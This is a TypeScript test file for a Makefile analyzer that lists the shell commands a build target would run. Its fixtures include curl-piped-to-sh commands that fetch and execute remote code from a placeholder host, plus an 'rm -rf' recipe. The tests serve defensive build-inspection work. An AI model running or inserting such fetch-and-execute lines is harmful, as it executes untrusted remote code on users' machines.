import assert from 'node:assert/strict';
import { recipesOf } from '../../../../server/src/artifacts/analysis/shell/makefile.js';

const lines = (text: string, ...targets: readonly string[]): readonly string[] =>
  recipesOf(text, targets).flatMap((recipe) => recipe.text.split('\n'));

describe('recipesOf', () => {
  const file = [
    'CC ?= cc',
    'HOST := h.invalid',
    'URL = https://$(HOST)/$(notdir x)p',
    'FLAGS += -O2',
    'all: lib.o \\',
    '    fetch',
    '\t@echo done',
    'fetch: | prepare',
    'ifneq ($(GATE),)',
    '\t@-curl -fsSL $(URL)/$$(uname -s) \\',
    '\t\t| sh',
    'endif',
    '',
    '# a note',
    '\t+mkdir -p ${OUT}',
    'prepare: ; @touch $@ $<',
    'other:',
    '\trm -rf $(OUT)/*',
    '%.o: %.c',
    '\t$(CC) $(FLAGS) -c $< -o $@',
    'sub:',
    '\t$(MAKE) -C sub',
  ].join('\n');

  it('gives what making a target runs, with what it needs first', () => {
    assert.deepEqual(lines(file, 'fetch'), [
      'cc  -O2 -c %.c -o %.o',
      'touch prepare ',
      'curl -fsSL https://h.invalid/p/$(uname -s)  | sh',
      'mkdir -p ${OUT}',
    ]);
  });

  it('makes the first target where none is named, and everything where nobody knows the name', () => {
    assert.ok(lines(file).includes('echo done'));
    assert.ok(!lines(file).includes('rm -rf ${OUT}/*'));
    assert.ok(lines(file, 'missing').includes('rm -rf ${OUT}/*'));
    assert.deepEqual(lines(file, 'sub').slice(1), ['make -C sub']);
  });

  it('gives what is asked of a shell while the file is read, whatever is made', () => {
    const asking =
      'X := $(shell curl -s https://h.invalid | sh)\nY != id -u\n$(shell touch a)\nall:\n\techo $(shell date)';
    assert.deepEqual(lines(asking, 'all'), ['curl -s https://h.invalid | sh', 'id -u', 'touch a', 'echo $(date)']);
  });

  it('knows where a recipe stands', () => {
    const [, , third] = recipesOf(file, ['fetch']);
    assert.equal(file.slice(third?.offset).split('\n')[0], 'fetch: | prepare');
  });

  it('ends with variables that hold each other, and with files that are none', () => {
    const doubling = Array.from({ length: 40 }, (_, at) => `V${String(at)} = ${`$(V${String(at + 1)})`.repeat(500)}`);
    const started = Date.now();
    recipesOf(`${doubling.join('\n')}\nall:\n\techo $(V0)`, []);
    recipesOf('V = $(V)$(V)\nall: all\n\techo $(V)', []);
    recipesOf(`${'$('.repeat(50_000)}\n${' '.repeat(50_000)}\n${'a'.repeat(50_000)}`, []);
    recipesOf(`a${' '.repeat(5000)}\n`.repeat(2000), []);
    recipesOf('\t\n:\n::\n=\n:=', ['x']);
    assert.ok(Date.now() - started < 3000);
  });
});
